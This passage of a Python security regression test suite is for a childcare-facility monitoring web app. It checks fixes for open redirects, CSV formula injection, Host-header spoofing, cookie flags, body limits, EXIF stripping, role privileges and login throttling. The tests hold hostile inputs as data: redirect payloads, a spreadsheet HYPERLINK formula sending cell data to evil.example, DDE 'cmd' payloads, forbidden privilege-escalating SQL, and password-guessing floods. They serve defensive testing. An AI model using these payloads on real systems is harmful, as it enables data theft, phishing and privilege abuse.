                assert r.status == 400, (field, odd, r.status)
                assert reasons[field] in body, (field, odd)
        async with s.get(f"{url}/api/v1/orders?status=all") as r:
            assert (await r.json())["orders"] == [], "no order was issued"
    finally:
        await s.close()


async def test_n_a_redirect_target_with_a_tab_or_whitespace_stays_on_the_site(
    site: dict[str, object], db: asyncpg.Connection
) -> None:
    """Finding N: browsers drop a tab, CR or LF anywhere in a URL (and spaces around it), so
    `/\\t/evil.example` became `//evil.example`: another site. Only a plain same-site path is kept."""
    url, alert = str(site["url"]), site["alert_a"]
    s = await _session(url, "insp-a", "pw-a")
    try:
        csrf = await _csrf_of(s, f"{url}/alerts/{alert}")
        for evil in (
            "/\t/evil.example",
            "/\n/evil.example",
            "/\r/evil.example",
            " //evil.example",
            "/ /evil.example",
            "/\\\\evil.example",
            "\t//evil.example",
            "/\x00/evil.example",
        ):
            await _unacknowledged(db, alert)
            r = await s.post(
                f"{url}/alerts/{alert}/ack",
                data={"note": "已到场查看", "csrf": csrf, "back": evil},
                allow_redirects=False,
            )
            assert r.status == 302, (evil, r.status)
            assert r.headers["Location"] == "/alerts", (evil, r.headers["Location"])
        await _unacknowledged(db, alert)
        r = await s.post(
            f"{url}/alerts/{alert}/ack",
            data={"note": "已到场查看", "csrf": csrf, "back": "/alerts?status=all"},
            allow_redirects=False,
        )
        assert r.headers["Location"] == "/alerts?status=all", "a same-site path is kept"
    finally:
        await s.close()


async def test_m_no_csv_export_carries_a_live_formula(site: dict[str, object], db: asyncpg.Connection) -> None:
    """Finding M: a facility named `=HYPERLINK(...)` was exported as a live formula (Excel and WPS run
    it when the inspector opens the file). Every CSV export now writes such text as text."""
    import csv
    import io

    from tests.test_web import A

    evil = {
        "=": '=HYPERLINK("http://evil.example/?x="&A1,"详情")',
        "+": "+1+cmd|' /C calc'!A0",
        "-": "-2+3",
        "@": "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t": "\t=1+1",
        "\r": "\r=1+1",
    }
    url = str(site["url"])
    auth = {"Authorization": f"Bearer {site['admin']}"}
    live = ("=", "+", "@", "\t", "\r")  # not "-": a negative number starts so too
    async with aiohttp.ClientSession(headers=auth) as s:
        for start, name in evil.items():
            await db.execute("UPDATE facilities SET name = $2 WHERE id = $1", A.id, name)
            async with s.get(f"{url}/api/v1/reports?format=csv") as r:
                assert r.status == 200
                rows = list(csv.reader(io.StringIO((await r.text()).lstrip("\ufeff"))))
            [cells] = [row for row in rows if row[0] == A.id]
            assert cells[1] == "'" + name, (start, cells[1])
            for row in rows:
                assert not any(c.startswith(live) for c in row), row
        async with s.get(f"{url}/api/v1/assessment?format=csv&year=2026") as r:
            assert r.status == 200, await r.text()
            for row in csv.reader(io.StringIO((await r.text()).lstrip("\ufeff"))):
                assert not any(c.startswith(live) for c in row), row


async def test_e_the_link_in_a_notification_comes_from_the_configured_public_url(
    db: asyncpg.Connection, db_url: str
) -> None:
    """Finding E: an order step with `Host: carewatch-gov.evil.example` made the message to the other
    side read `查看: http://carewatch-gov.evil.example/orders/4`. The link is now the configured
    public URL's, whatever the request's Host (API and form alike)."""
    from storage.notifications import add_subscription
    from tests.test_web import REG as WEB_REG
    from tests.test_web import B
    from web.app import create_app

    await load_registry(db, WEB_REG)
    _, admin = await create_user(db, "admin", "admin", "pw-admin")
    oper, _ = await create_user(db, "oper-b", "operator", "pw-b", facility=B.id)
    await add_subscription(db, oper, "wecom", "oper-key-0001", None, None, "warning", None, "zh")
    public = "https://carewatch.xinzhou.example/cw"
    app = create_app(as_role(db_url, "web"), secrets.token_bytes(32), public_url=public + "/")
    server = TestServer(app, host="127.0.0.1")
    await server.start_server()
    url = str(server.make_url("")).rstrip("/")
    evil = {"Authorization": f"Bearer {admin}", "Host": "carewatch-gov.evil.example"}
    try:
        async with aiohttp.ClientSession() as s:
            body = {"title": "消防通道堵塞", "due_at": (datetime.now(UTC) + timedelta(days=7)).isoformat()}
            async with s.post(f"{url}/api/v1/facilities/{B.id}/orders", json=body, headers=evil) as r:
                assert r.status == 201, await r.text()
                order = (await r.json())["id"]
    finally:
        await server.close()
    [message] = await db.fetch("SELECT body FROM notification_deliveries")
    assert "evil.example" not in message["body"]
    assert f"{public}/orders/{order}" in message["body"], message["body"]


async def test_o_the_session_cookie_is_secure_behind_https(db: asyncpg.Connection, db_url: str) -> None:
    """Finding O: the session cookie had no Secure flag and no setting for it, so a site behind TLS still
    let the browser send it over plain HTTP. With an https public URL (or the setting) it is Secure."""
    from web.app import create_app

    await create_user(db, "insp-s", "inspector", "pw-s", county="140902")
    for public, setting, secure in (
        ("https://carewatch.xinzhou.example", None, True),
        ("http://127.0.0.1:8080", True, True),
        ("http://127.0.0.1:8080", None, False),
    ):
        app = create_app(as_role(db_url, "web"), secrets.token_bytes(32), public_url=public, secure_cookies=setting)
        server = TestServer(app, host="127.0.0.1")
        await server.start_server()
        url = str(server.make_url("")).rstrip("/")
        try:
            async with aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar()) as s:
                async with s.get(f"{url}/login") as r:
                    set_cookie = r.headers.get("Set-Cookie", "")
                    csrf = re.search(r'name="csrf" value="([^"]+)"', await r.text())
                assert csrf and "cw_session=" in set_cookie
                cookie = set_cookie.split(";", 1)[0]
                form = {"username": "insp-s", "password": "pw-s", "csrf": csrf.group(1)}
                async with s.post(f"{url}/login", data=form, headers={"Cookie": cookie}, allow_redirects=False) as r:
                    assert r.status == 302, await r.text()
                    signed_in = r.headers["Set-Cookie"]
            for header in (set_cookie, signed_in):
                flags = {f.strip().lower() for f in header.split(";")[1:]}
                assert ("secure" in flags) is secure, (public, setting, header)
                assert "httponly" in flags
        finally:
            await server.close()


async def _raw_post(url: str, path: str, length: int, cookie: str = "", wait: float = 5.0) -> tuple[int, str]:
    """Send a POST's head declaring `length` bytes and none of them: the status line the server answers
    with within `wait` s (0 if it waits for the body instead)."""
    host, port = url.removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    head = (
        f"POST {path} HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        f"Content-Length: {length}\r\n{cookie and f'Cookie: {cookie}' + chr(13) + chr(10)}\r\n"
    )
    writer.write(head.encode())
    await writer.drain()
    try:
        line = await asyncio.wait_for(reader.readline(), wait)
    except TimeoutError:
        return 0, ""
    finally:
        writer.close()
    return int(line.split()[1]), line.decode()


async def test_i_bodies_are_limited_per_route_and_forms_checked_before_they_are_read(site: dict[str, object]) -> None:
    """Finding I: 8 MiB bodies were accepted on every route, and /login read its body before checking
    CSRF (60 parallel 8 MiB posts: 91 MB → 1,080 MB). Now a body larger than its route takes is refused
    before it is read, a form without a session's CSRF token is refused unread, JSON and forms take
    256 KiB, and only the file routes take files' sizes."""
    url, alert = str(site["url"]), site["alert_a"]
    status, line = await _raw_post(url, "/login", 8 * 1024 * 1024)
    assert status == 413, f"an 8 MiB login was waited for: {line!r}"
    status, line = await _raw_post(url, "/login", 2000)
    assert status == 403, f"a login without a session's CSRF token was read first: {line!r}"
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as s:
        csrf = await _login_form(s, url)
        big = io.BytesIO(f"csrf={csrf}&username=insp-a&password={'x' * 1024 * 1024}".encode())
        form_type = {"Content-Type": "application/x-www-form-urlencoded"}
        async with s.post(f"{url}/login", data=big, headers=form_type) as r:
            assert r.status == 413, r.status
        cookie = "; ".join(f"{c.key}={c.value}" for c in s.cookie_jar)

        async def chunked() -> AsyncIterator[bytes]:  # no Content-Length: cut while it is read
            yield f"csrf={csrf}&username=insp-a&password=".encode()
            for _ in range(64):
                yield b"x" * 16384

        async with s.post(f"{url}/login", data=chunked(), headers=form_type) as r:
            assert r.status == 413, r.status
        forged = {"username": "insp-a", "password": "pw-a", "csrf": csrf}
        async with s.post(f"{url}/login", data=forged, headers={"Origin": "https://evil.example"}) as r:
            assert r.status == 403, "a form from another site"
    assert cookie
    auth = {"Authorization": f"Bearer {site['admin']}"}
    async with aiohttp.ClientSession(headers=auth) as s:
        note = io.BytesIO(json.dumps({"note": "n" * (1024 * 1024)}).encode())
        async with s.post(f"{url}/api/v1/alerts/{alert}/ack", data=note) as r:
            assert r.status == 413, r.status
            assert "at most" in (await r.json())["error"]
        registry = "# " + "x" * (2 * 1024 * 1024) + "\nfacilities: []\n"  # a registry file may be large
        async with s.post(f"{url}/api/v1/registry", data=io.BytesIO(registry.encode())) as r:
            assert r.status != 413, await r.text()


def _phone_photo() -> bytes:
    """A JPEG as a phone writes it: 40 × 20 pixels stored sideways (left half red, right half blue) with
    EXIF orientation 6 (turn 90° clockwise to show), a GPS position, the phone's make and a comment."""
    from PIL import Image

    img = Image.new("RGB", (40, 20), (0, 0, 255))
    img.paste((255, 0, 0), (0, 0, 20, 20))
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation
    exif[0x010F] = "PhoneMaker-SECRET"  # Make
    exif[0x8825] = {1: "N", 2: (38.0, 25.0, 1.5), 3: "E", 4: (112.0, 44.0, 2.5)}  # GPSInfo: Xinzhou
    out = io.BytesIO()
    img.save(out, "JPEG", exif=exif, comment=b"home-address-SECRET", quality=95)
    return out.getvalue()


async def test_j_stored_photos_carry_no_exif_and_stay_upright(site: dict[str, object]) -> None:
    """Finding J: an evidence photo was served back byte for byte, EXIF and all (the GPS position where it
    was taken, the phone). Now it is stored as its pixels only, turned upright first."""
    from PIL import Image

    from tests.test_web import B

    url = str(site["url"])
    admin = {"Authorization": f"Bearer {site['admin']}"}
    due = (datetime.now(UTC) + timedelta(days=7)).isoformat()
    async with (
        aiohttp.ClientSession(headers=admin) as api,
        api.post(f"{url}/api/v1/facilities/{B.id}/orders", json={"title": "灭火器", "due_at": due}) as r,
    ):
        assert r.status == 201, await r.text()
        order = (await r.json())["id"]
    photo = _phone_photo()
    assert b"SECRET" in photo
    s = await _session(url, "oper-b", "pw-b")
    try:
        form = aiohttp.FormData()
        form.add_field("csrf", await _csrf_of(s, f"{url}/orders/{order}"))
        form.add_field("note", "已更换")
        form.add_field("evidence", photo, filename="IMG_0001.jpg", content_type="image/jpeg")
        async with s.post(f"{url}/orders/{order}/answer", data=form) as r:
            page = await r.text()
            assert r.status == 200, page
        found = re.search(r'href="/evidence/(\d+)"', page)
        assert found, page
        async with s.get(f"{url}/evidence/{found.group(1)}") as r:
            assert r.status == 200 and r.headers["Content-Type"] == "image/jpeg"
            stored = await r.read()
    finally:
        await s.close()
    assert stored != photo
    assert b"SECRET" not in stored and b"Exif" not in stored, "metadata went out with the photo"
    with Image.open(io.BytesIO(stored)) as img:
        assert not img.getexif(), dict(img.getexif())
        assert img.size == (20, 40), "turned upright by its orientation before the EXIF went"
        top, bottom = img.convert("RGB").getpixel((10, 5)), img.convert("RGB").getpixel((10, 35))
    assert top[0] > 200 and top[2] < 60, top  # the red half on top: turned clockwise, as the phone meant
    assert bottom[2] > 200 and bottom[0] < 60, bottom


async def _privileges(db: asyncpg.Connection) -> dict[str, dict[str, str]]:
    """{role: {table: "SELECT, INSERT, UPDATE (col, col)"}}: every privilege each service role holds on
    every table and view of the schema, table-wide or on some columns, as PostgreSQL reports it."""
    out: dict[str, dict[str, str]] = {}
    for service in ("ingest", "alerts", "web", "broker"):
        role = f"carewatch_{service}"
        tables: dict[str, list[str]] = {}
        whole = await db.fetch(
            "SELECT table_name, privilege_type FROM information_schema.role_table_grants"
            " WHERE grantee = $1 AND table_schema = 'public'",
            role,
        )
        wide = {(r["table_name"], r["privilege_type"]) for r in whole}
        cols = await db.fetch(
            "SELECT table_name, privilege_type, column_name FROM information_schema.column_privileges"
            " WHERE grantee = $1 AND table_schema = 'public' ORDER BY column_name",
            role,
        )
        some: dict[tuple[str, str], list[str]] = {}
        for r in cols:
            if (r["table_name"], r["privilege_type"]) not in wide:
                some.setdefault((r["table_name"], r["privilege_type"]), []).append(r["column_name"])
        order = ["SELECT", "INSERT", "UPDATE", "DELETE", "TRUNCATE", "REFERENCES", "TRIGGER"]
        for verb in order:
            for table, priv in sorted(wide):
                if priv == verb:
                    tables.setdefault(table, []).append(verb)
            for (table, priv), names in sorted(some.items()):
                if priv == verb:
                    tables.setdefault(table, []).append(f"{verb} ({', '.join(names)})")
        out[service] = {t: ", ".join(v) for t, v in sorted(tables.items())}
    return out


_REGISTRY_MEMBERS = ("children", "classes", "devices", "guardians", "staff")
EXPECTED_PRIVILEGES = {
    "broker": {"broker_acl": "SELECT", "broker_users": "SELECT"},
    "ingest": {
        "access_events": "SELECT, INSERT",
        "dead_letters": "SELECT, INSERT, DELETE",
        "device_activity": "SELECT, INSERT, UPDATE, DELETE",
        "device_state": "SELECT, INSERT, UPDATE",
        "device_status": "SELECT, INSERT",
        "devices": "SELECT",
        "events": "SELECT, INSERT",
        "facilities": "SELECT",
        "intake_clock": "SELECT, INSERT, UPDATE",
        "intake_hours": "SELECT, INSERT, UPDATE, DELETE",
        "counted_slots": "SELECT, INSERT, UPDATE, DELETE",  # counting cameras' slots (migration 042)
        "job_state": "SELECT, INSERT, UPDATE",
        "notification_deliveries": "SELECT (created_at, status), DELETE",
        "readings": "SELECT, INSERT",
        "readings_hourly": "SELECT, INSERT, UPDATE",
    },
    "alerts": {
        "access_events": "SELECT",
        "alert_history": "SELECT, INSERT, UPDATE",
        "alerts": "SELECT, INSERT, UPDATE",
        "children": "SELECT",
        "classes": "SELECT",
        "device_activity": "SELECT",
        "device_clocks": "SELECT, INSERT, UPDATE, DELETE",
        "device_state": "SELECT",
        "device_status": "SELECT",
        "devices": "SELECT",
        "events": "SELECT",
        "facilities": "SELECT",
        "guardians": "SELECT",
        "lapse_intervals": "SELECT, INSERT, UPDATE",
        "maintenance_windows": "SELECT",
        "closures": "SELECT",  # approved closures close days (migration 032)
        "facility_suspensions": "SELECT",  # children_during_suspension (migration 038)
        "pickup_delegates": "SELECT",  # who may collect a child (migration 027)
        "notification_deliveries": "SELECT, INSERT, UPDATE",
        "notification_sends": "SELECT, INSERT, DELETE",  # each robot's rate limit (migration 022)
        "notification_subscriptions": "SELECT",
        "people": "SELECT",
        "readings": "SELECT",
        "rectification_history": "SELECT, INSERT",
        "rectification_orders": "SELECT, UPDATE (escalated_at, supervision_level)",
        # 督办 of complaints and filings past their deadlines (migration 046): which are late, nothing they say
        "complaints": "SELECT (due_at, facility_id, id, status)",
        "filings": "SELECT (due_at, facility_id, id, status)",
        "overdue_notices": "SELECT, INSERT",
        "child_whereabouts": "SELECT",  # where a child left on site is (migration 030)
        "rule_memory": "SELECT, INSERT, UPDATE",  # what the rules remember (migration 030)
        "rule_timers": "SELECT, INSERT, UPDATE, DELETE",
        "staff": "SELECT",
        "users": "SELECT (disabled, id, role, scope_county, scope_facility, scope_township)",
    },
    "web": {
        "access_events": "SELECT",
        "alert_history": "SELECT, INSERT",
        "alerts": "SELECT, UPDATE (acknowledged, acknowledged_at, acknowledged_by, note)",
        "api_tokens": "SELECT, UPDATE (last_used_at)",
        "audit_log": "SELECT, INSERT",
        **dict.fromkeys(_REGISTRY_MEMBERS, "SELECT, INSERT, DELETE"),
        "credit_appeals": "SELECT, INSERT, UPDATE (corrected_grade, corrected_score, decided_at, decided_by, reason,"
        " status)",
        "credit_records": "SELECT, INSERT",
        "dead_letters": "SELECT",
        "device_activity": "SELECT",
        "child_whereabouts": "SELECT, INSERT",  # where a child left on site is (migration 030)
        "device_clocks": "SELECT",
        "document_numbers": "SELECT, INSERT",
        "document_sequences": "SELECT, INSERT, UPDATE (last_no)",
        "device_state": "SELECT",
        "device_status": "SELECT",
        "events": "SELECT",
        "evidence_files": "SELECT, INSERT",
        "facilities": "SELECT, INSERT, UPDATE",
        "inspections": "SELECT, INSERT, UPDATE (countersigned_at, countersigned_by, findings, inspected_at, notes,"
        " second_inspector, signed_by, status)",  # the second officer (migration 037)
        "intake_clock": "SELECT",
        "intake_hours": "SELECT",
        "counted_slots": "SELECT",  # the credit reads the counting cameras' slots (migration 042)
        "job_state": "SELECT",  # from which hour the slots are complete (migration 042)
        "lapse_intervals": "SELECT",
        "login_attempts": "SELECT, INSERT, UPDATE (outcome), DELETE",
        "maintenance_windows": "SELECT, INSERT, UPDATE (decided_at, decided_by, decision_reason, status)",
        "closures": "SELECT, INSERT, UPDATE (decided_at, decided_by, decision_reason, status)",  # migration 032
        "notification_deliveries": "SELECT, INSERT",
        "notification_subscriptions": "SELECT, INSERT, DELETE",
        "pickup_delegates": "SELECT, INSERT, UPDATE (revoke_reason, revoked_at, revoked_by)",  # migration 027
        "people": "SELECT, INSERT, UPDATE (ban_source, banned_on, health_cert_expires, health_check_on, id_masked,"
        " name, qualifications, training_on, updated_at)",
        "person_roles": "SELECT, INSERT, UPDATE (until)",
        "readings": "SELECT",
        "readings_hourly": "SELECT",
        "rectification_history": "SELECT, INSERT",
        "rectification_orders": "SELECT, INSERT, UPDATE (closed_at, closed_by, due_at, status)",
        "rule_timers": "SELECT",
        "users": "SELECT, UPDATE (sessions_valid_after)",
        # 双随机一公开 (migration 035): draws only added; availability set, column by column
        "random_draws": "SELECT, INSERT",
        "random_draw_picks": "SELECT, INSERT",
        "draw_availability": "SELECT, INSERT, UPDATE (available, changed_at, changed_by, reason)",
        # 复查 and extensions (migration 035)
        "order_rechecks": "SELECT, INSERT",
        "order_receipts": "SELECT, INSERT",  # 签收, once (migration 037)
        "order_extensions": "SELECT, INSERT, UPDATE (decided_at, decided_by, decision_reason, status)",
        # parents' complaints (migration 034): filed, then its steps; never deleted, never rewritten (its trigger)
        "complaints": "SELECT, INSERT, UPDATE (answer, answered_at, answered_by, closed_at, closed_by, handled_at,"
        " handled_by, status)",
        "complaint_history": "SELECT, INSERT",
        # 登记备案 (migration 036): filed and reviewed, never moved to another facility; history only added to
        "filings": "SELECT, INSERT, UPDATE (declared, due_at, filing_no, particulars, reasons, reviewed_at,"
        " reviewed_by, status, submitted_at, submitted_by)",
        "filing_history": "SELECT, INSERT",
        "filing_sequences": "SELECT, INSERT, UPDATE (last_no)",
        "area_summons": "SELECT, INSERT",  # 督导评估's 约谈, only added (migration 041)
        # 通报 (migration 039): drafted and edited, issued once (its trigger: then never changed); a draft's
        # subjects replaced, an issued one's never; never deleted
        "circulars": "SELECT, INSERT, UPDATE (body, issued_at, issued_by, kind, public, status, title, updated_at,"
        " updated_by)",
        "circular_subjects": "SELECT, INSERT, DELETE",
        # 责令停业整改 (migration 038): ordered, lifted once on a clean 复查 (its trigger), never deleted
        "facility_suspensions": "SELECT, INSERT, UPDATE (lift_reason, lifted_at, lifted_by, recheck_inspection_id)",
    },
}


async def test_k_each_roles_privileges_are_exactly_the_expected_table(db: asyncpg.Connection, db_url: str) -> None:
    """Finding K: the web's role could DELETE a facility (cascading into its orders, evidence, alerts and
    history) and UPDATE any column of an order (its status, facility, due date, 督办 level) or an alert.
    Every privilege of every service role is listed here; a new one fails this test until it is written
    down. And the web, as itself, tries what it must not."""
    assert await _privileges(db) == EXPECTED_PRIVILEGES
    await load_registry(db, REG)
    web = await asyncpg.connect(as_role(db_url, "web"))
    try:
        for attempt in (
            f"DELETE FROM facilities WHERE id = '{FAC.id}'",
            "UPDATE rectification_orders SET facility_id = 'x', due_at = now(), supervision_level = 'city'",
            "UPDATE rectification_orders SET first_due_at = now()",
            "UPDATE credit_appeals SET score_before = 100, note = 'x'",
            "UPDATE alerts SET status = 'cleared', severity = 'minor'",
            "UPDATE maintenance_windows SET ends_at = now()",
            "UPDATE credit_records SET score = 100, grade = 'A'",
            "UPDATE inspections SET facility_id = 'x'",
            "UPDATE users SET role = 'admin'",
            "UPDATE filings SET facility_id = 'x', kind = 'initial'",  # migration 036
            "DELETE FROM filing_history",
            # an operator's requests cannot mark a deadline as told, or untell it (migration 046)
            f"INSERT INTO overdue_notices VALUES ('complaint', 1, now(), '{FAC.id}', 'city', now())",
            "DELETE FROM overdue_notices",
        ):
            with pytest.raises(asyncpg.InsufficientPrivilegeError):
                await web.execute(attempt)
    finally:
        await web.close()
    assert await db.fetchval("SELECT count(*) FROM facilities WHERE id = $1", FAC.id) == 1


async def _stream_ends_within(s: aiohttp.ClientSession, url: str, act: Callable[[], Awaitable[object]]) -> float:
    """Open the live stream, do `act` (revoke, disable, log out elsewhere), and return how many seconds
    the server took to end the stream; fails if it is still open after 10 s."""
    async with s.get(f"{url}/api/v1/stream", timeout=aiohttp.ClientTimeout(total=30)) as r:
        assert r.status == 200
        await asyncio.sleep(0.5)
        await act()
        t0 = time.monotonic()
        try:
            while await asyncio.wait_for(r.content.readany(), 10 - (time.monotonic() - t0)):
                pass
        except TimeoutError:
            raise AssertionError("the live stream was still open 10 s after its credential ended") from None
        return time.monotonic() - t0


async def test_g_an_open_stream_ends_when_its_token_or_session_does(
    site: dict[str, object], db: asyncpg.Connection
) -> None:
    """Finding G: an open live stream outlived `tokens revoke` and `users disable` (a panic 20 s later
    still arrived on it). It now asks every few seconds whether its credential still holds."""
    from storage.users import end_sessions, revoke_token, set_disabled

    url = str(site["url"])
    [(tid,)] = await db.fetch(
        "SELECT t.id FROM api_tokens t JOIN users u ON u.id = t.user_id WHERE u.username = 'oper-b'"
    )
    async with aiohttp.ClientSession(headers={"Authorization": f"Bearer {site['oper']}"}) as s:
        assert await _stream_ends_within(s, url, lambda: revoke_token(db, tid, "test")) < 8
    s = await _session(url, "insp-a", "pw-a")
    try:
        assert await _stream_ends_within(s, url, lambda: set_disabled(db, "insp-a", True, "test")) < 8
        await set_disabled(db, "insp-a", False, "test")
    finally:
        await s.close()
    s = await _session(url, "insp-a", "pw-a")
    uid = await db.fetchval("SELECT id FROM users WHERE username = 'insp-a'")
    try:  # a logout on another computer ends this browser's session and its stream
        assert await _stream_ends_within(s, url, lambda: end_sessions(db, uid)) < 8
        async with s.get(f"{url}/api/v1/stream") as r:
            assert r.status == 401, "and it does not come back"
    finally:
        await s.close()


class _CountingHasher:
    """storage.users' hasher, counting the passwords checked (and, with `slow`, taking that long each),
    and the CPU priorities (nice) of the threads they were checked on."""

    def __init__(self, slow: float = 0.0) -> None:
        from storage import users

        self.real, self.slow, self.checked = users._hasher, slow, 0
        self.lock = threading.Lock()
        self.nice: set[int] = set()

    def hash(self, pw: str) -> str:
        return self.verify("", pw) and self.real.hash(pw)  # type: ignore[return-value]

    def verify(self, h: str, pw: str) -> bool:
        with self.lock:
            self.checked += 1
            self.nice.add(os.getpriority(os.PRIO_PROCESS, 0))  # Linux: the calling thread's own
        time.sleep(self.slow)
        return self.real.verify(h, pw) if h else True


async def _login(url: str, user: str, password: str, local: str = "127.0.0.1", **headers: str) -> int:
    """One login as a browser from `local` (a loopback address of its own) would: the form, then the post."""
    connector = aiohttp.TCPConnector(local_addr=(local, 0))
    async with aiohttp.ClientSession(connector=connector, cookie_jar=aiohttp.CookieJar(unsafe=True)) as s:
        csrf = await _login_form(s, url)
        form = {"username": user, "password": password, "csrf": csrf}
        async with s.post(f"{url}/login", data=form, headers=headers, allow_redirects=False) as r:
            return 200 if r.status == 302 else 401 if r.status == 200 else r.status


async def test_a_parallel_and_cross_process_guesses_are_counted_before_they_are_checked(
    site: dict[str, object], db_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Finding A: the throttle checked the count before argon2 and counted the failure after it: 41
    parallel logins for one name from one address had all 41 passwords checked, none refused, and each
    web process counted for itself. Now each attempt is reserved in the database before its hash."""
    from storage import users
    from web.app import create_app

    hasher = _CountingHasher()
    monkeypatch.setattr(users, "_hasher", hasher)
    url = str(site["url"])
    answers = await asyncio.gather(
        *(_login(url, "insp-a", f"guess-{i}") for i in range(40)), _login(url, "insp-a", "pw-a")
    )
    assert hasher.checked <= 5, f"{hasher.checked} of 41 parallel guesses were checked"
    assert sum(a in {429, 503} for a in answers) >= 36, answers
    # two web processes (two apps, one database): the count is theirs together
    other = TestServer(create_app(as_role(db_url, "web"), secrets.token_bytes(32)), host="127.0.0.1")
    await other.start_server()
    try:
        second = str(other.make_url("")).rstrip("/")
        hasher.checked = 0
        answers = [await _login(url if i % 2 else second, "oper-b", f"guess-{i}") for i in range(12)]
    finally:
        await other.close()
    assert hasher.checked == 5, f"{hasher.checked} of 12 guesses over two processes were checked"
    assert answers == [401] * 5 + [429] * 7


async def test_b_a_login_flood_holds_no_database_connection_and_is_refused_beyond_the_hash_slots(
    site: dict[str, object], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Finding B: a login held one of the pool's 8 connections while argon2 ran, so 12 × 19 parallel
    failed logins made a token request wait 61 s. Now no connection is held while hashing, a process
    hashes a few passwords at a time, at the lowest CPU priority, and a login beyond them is answered
    503 at once."""
    from storage import users

    hasher = _CountingHasher(slow=3.0)  # argon2 on a slow, busy machine
    monkeypatch.setattr(users, "_hasher", hasher)
    url = str(site["url"])
    flood = [asyncio.create_task(_login(url, f"name-{i}", "guess", local=f"127.0.0.{2 + i % 12}")) for i in range(24)]
    await asyncio.sleep(1.0)  # every login of the flood is in, hashing or refused
    t0 = time.monotonic()
    async with (
        aiohttp.ClientSession(headers={"Authorization": f"Bearer {site['insp']}"}) as s,
        s.get(f"{url}/api/v1/facilities") as r,
    ):
        assert r.status == 200
    took = time.monotonic() - t0
    answers = await asyncio.gather(*flood)
    # not a speed target: a request that waited behind even one hash (or for a connection a hash held) takes
    # the hash's own time, however fast or loaded the machine
    assert took < hasher.slow, f"a token request took {took:.1f} s during the login flood: it waited behind a hash"
    assert answers.count(503) >= 12, answers
    assert hasher.checked > 0 and hasher.nice == {HASH_NICE}, f"passwords were hashed at nice {hasher.nice}"


async def test_c_nobody_can_lock_a_real_user_out(site: dict[str, object], db_url: str) -> None:
    """Finding C: 5 failures under a name (or 20 from one address) refused everyone for 15 minutes, and
    behind a proxy every user shares its address. Now failures hold the name from that address only (and
    the name from new addresses after many, never from one it has logged in from); a proxy's
    X-Forwarded-For counts only from a configured proxy."""
    from web.app import create_app

    url = str(site["url"])
    assert await _login(url, "insp-a", "pw-a", local="127.0.0.1") == 200  # the inspector's usual desk
    for i in range(25):  # five addresses, five guesses each: the name's own limit (20) is passed
        await _login(url, "insp-a", f"guess-{i}", local=f"127.0.0.{20 + i // 5}")
    assert await _login(url, "insp-a", "guess", local="127.0.0.20") == 429, "the guessing pair is held"
    assert await _login(url, "insp-a", "pw-a", local="127.0.0.30") == 429, "a new address waits for the name"
    assert await _login(url, "insp-a", "pw-a", local="127.0.0.1") == 200, "the inspector is not locked out"
    assert await _login(url, "oper-b", "pw-b", local="127.0.0.20") == 200, "nor another user at that address"
    for i in range(31):  # a colleague at the inspector's own office address sprays names
        await _login(url, f"someone-{i}", "guess", local="127.0.0.1")
    assert await _login(url, "newcomer", "guess", local="127.0.0.1") == 429, "the spraying address is held"
    assert await _login(url, "insp-a", "pw-a", local="127.0.0.1") == 200, "but not for a name known there"
    # behind a reverse proxy: its X-Forwarded-For names the client, but only when the proxy sends it
    app = create_app(as_role(db_url, "web"), secrets.token_bytes(32), trusted_proxies="127.0.0.40")
    server = TestServer(app, host="127.0.0.1")
    await server.start_server()
    try:
        behind = str(server.make_url("")).rstrip("/")
        for i in range(5):
            via = {"X-Forwarded-For": "198.51.100.7"}
            assert await _login(behind, "oper-b", f"guess-{i}", local="127.0.0.40", **via) == 401
        proxied = {"X-Forwarded-For": "198.51.100.7"}
        assert await _login(behind, "oper-b", "pw-b", local="127.0.0.40", **proxied) == 429
        other = {"X-Forwarded-For": "198.51.100.8"}
        assert await _login(behind, "oper-b", "pw-b", local="127.0.0.40", **other) == 200, "another client"
        spoofed = {"X-Forwarded-For": "198.51.100.9, 198.51.100.7"}  # the client's own header, then the proxy's
        assert await _login(behind, "oper-b", "pw-b", local="127.0.0.40", **spoofed) == 429
        for i in range(5):  # not from the proxy: the header is the sender's claim, the address its own
            rotating = {"X-Forwarded-For": f"203.0.113.{i}"}
            await _login(behind, "insp-a", f"guess-{i}", local="127.0.0.41", **rotating)
        assert await _login(behind, "insp-a", "pw-a", local="127.0.0.41", **{"X-Forwarded-For": "203.0.113.99"}) == 429
    finally:
        await server.close()


async def _hammer(s: aiohttp.ClientSession, url: str, n: int, parallel: int = 30) -> list[tuple[int, str, str]]:
    """`n` GETs of `url` as fast as `parallel` connections go: (status, Retry-After, body) of each."""
    gate = asyncio.Semaphore(parallel)

    async def one() -> tuple[int, str, str]:
        async with gate, s.get(url, allow_redirects=False) as r:
            return r.status, r.headers.get("Retry-After", ""), await r.text()

    return await asyncio.gather(*(one() for _ in range(n)))


async def test_o_a_token_or_session_hammering_the_api_is_limited_and_nobody_else_is(
    site: dict[str, object],
) -> None:
    """Finding O, second half: a token holder could send requests without limit, each a query. Now a
    token (and a browser session) has a bucket of requests in the web process: 300 quick requests get
    429 with Retry-After and a reason beyond it, answered at once, while another token is served."""
    url = str(site["url"])
    hammering = aiohttp.ClientSession(headers={"Authorization": f"Bearer {site['insp']}"})
    other = aiohttp.ClientSession(headers={"Authorization": f"Bearer {site['admin']}"})
    try:
        t0 = time.monotonic()
        flood = asyncio.create_task(_hammer(hammering, f"{url}/api/v1/facilities", 300))
        meanwhile = []
        while not flood.done() or not meanwhile:
            async with other.get(f"{url}/api/v1/facilities") as r:
                meanwhile.append(r.status)
        answers = await flood
        took = time.monotonic() - t0
        assert meanwhile == [200] * len(meanwhile), "another token is served during the flood"
        refused = [a for a in answers if a[0] == 429]
        served = sum(a[0] == 200 for a in answers)
        assert served + len(refused) == 300 and refused, sorted({a[0] for a in answers})
        assert served <= RateLimit().burst + RateLimit().rate * took + 1, f"{served} served in {took:.1f} s"
        for _, retry, body in refused:
            assert int(retry) >= 1
            assert "too many requests for this token" in json.loads(body)["error"]
        async with other.get(f"{url}/api/v1/facilities") as r:
            assert r.status == 200, "and after it"
    finally:
        await hammering.close()
        await other.close()
